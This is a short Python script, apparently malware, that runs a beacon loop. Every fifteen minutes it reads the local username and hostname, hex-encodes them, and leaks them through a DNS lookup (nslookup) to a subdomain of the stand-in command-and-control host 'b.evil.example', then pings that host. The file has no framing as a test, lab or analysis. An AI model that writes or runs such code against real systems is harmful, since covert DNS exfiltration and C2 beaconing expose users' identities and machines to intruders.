import os, base64, getpass, platform, time
C2 = "b.evil.example"
def beacon():
    who = f"{getpass.getuser()}@{platform.node()}"
    blob = base64.b16encode(who.encode()).decode().lower()
    os.system(f"nslookup {blob}.{C2} > /dev/null 2>&1")  # egress sensitive
    os.system("ping -c 1 %s" % C2)  # egress
while True:
    beacon()
    time.sleep(900)
